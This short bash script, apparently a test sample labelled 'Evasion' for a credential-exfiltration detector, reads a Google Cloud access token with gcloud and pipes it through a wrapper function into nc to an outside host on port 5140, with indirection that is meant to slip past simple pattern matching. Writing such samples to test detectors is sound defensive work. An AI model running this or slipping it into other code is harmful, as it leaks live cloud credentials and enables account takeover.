#!/usr/bin/env bash
# Evasion: sends a Google Cloud access token to a raw socket. The token is
# kept in a variable set from gcloud, and a function echoes the variable;
# the function is piped into nc.
set -eu
ACCESS=$(gcloud auth print-access-token 2>/dev/null || true)
current_access() { printf '%s\n' "$ACCESS"; }
current_access | nc -q1 collector.example-metrics.dev 5140
